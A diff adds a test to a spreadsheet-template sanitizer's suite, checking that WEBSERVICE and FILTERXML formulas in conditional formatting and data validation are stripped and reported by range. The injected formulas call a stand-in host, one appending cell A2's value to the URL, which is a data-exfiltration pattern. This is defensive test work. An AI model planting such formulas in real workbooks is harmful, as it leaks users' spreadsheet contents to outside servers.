@@ -119,6 +119,30 @@ describe("an .xlsx template's outside links, out of the package", () => {
     expect([rows[1]?.[13], rows[1]?.[14]]).toEqual(["SJC", "80"]);
   }, 120_000);
 
+  test("a conditional format or a validation computing a WEBSERVICE goes whole, said by its range; a harmless validation stays, counted again", async () => {
+    const parts = unzipOf(plain);
+    const part = sheetPartOf(parts, TEMPLATE_SHEET);
+    const xml = partText(parts, part);
+    const at = Math.min(...["<hyperlinks", "<printOptions", "<pageMargins"].map((tag) => xml.indexOf(tag)).filter((i) => i >= 0));
+    const rules =
+      '<conditionalFormatting sqref="A2:A9"><cfRule type="expression" priority="1"><formula>LEN(WEBSERVICE("http://x.invalid/?"&amp;A2))&gt;0</formula></cfRule></conditionalFormatting>' +
+      '<dataValidations count="2"><dataValidation type="list" allowBlank="1" sqref="B2:B9"><formula1>FILTERXML(WEBSERVICE("http://x.invalid/"),"//a")</formula1></dataValidation>' +
+      '<dataValidation type="whole" allowBlank="1" sqref="C2:C9"><formula1>0</formula1><formula2>100</formula2></dataValidation></dataValidations>';
+    parts.set(part, Buffer.from(xml.slice(0, at) + rules + xml.slice(at)));
+    const cleaned = cleanXlsxTemplate(zipOf(Object.fromEntries(parts)), FILE);
+    if (!cleaned.ok) throw new Error("refused");
+    const sheetXml = partText(new Map(cleaned.parts), part);
+    expect(allText(cleaned.parts)).not.toMatch(/WEBSERVICE|FILTERXML|x\.invalid/);
+    expect(sheetXml).not.toContain("conditionalFormatting");
+    expect(sheetXml).toContain('<dataValidations count="1"><dataValidation type="whole" allowBlank="1" sqref="C2:C9">');
+    expect(cleaned.issues.map((i) => i.code)).toEqual(["TEMPLATE_EXTERNAL_REMOVED"]);
+    expect(issueMessage(cleaned.issues[0]!, "vi")).toContain(`WEBSERVICE ${TEMPLATE_SHEET}!A2:A9`);
+    expect(issueMessage(cleaned.issues[0]!, "vi")).toContain(`FILTERXML ${TEMPLATE_SHEET}!B2:B9`);
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(Buffer.from(cleaned.bytes) as never);
+    expect(book.getWorksheet(TEMPLATE_SHEET)).toBeDefined();
+  });
+
   test("a template with nothing outside is handed on as its very bytes, with no issue", () => {
     const cleaned = cleanXlsxTemplate(plain, FILE);
     expect(cleaned.ok && cleaned.bytes === plain && cleaned.issues.length === 0).toBe(true);
